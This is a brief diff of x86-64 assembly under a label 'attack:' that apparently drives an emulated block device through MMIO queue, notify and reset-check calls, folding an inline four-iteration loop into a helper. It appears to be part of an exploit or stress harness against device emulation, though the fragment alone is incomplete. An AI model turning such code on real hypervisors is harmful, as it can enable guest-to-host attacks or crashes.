@@ -13,17 +13,8 @@ attack:
 	xor %edi, %edi
 	call mmio_queue
 	call mmio_go
-	header T_IN, $0
-	mov $4, %esi
 	mov $0x4000, %edx
-	call blk_chains
-	xor %ebx, %ebx
-2:	lea (%rbx, %rbx, 2), %edi
-	call publish
-	call notify
-	inc %ebx
-	cmp $4, %ebx
-	jne 2b
+	call blk_kick_four
 	call mmio_reset_check
 	dec %r13d
 	jnz 1b
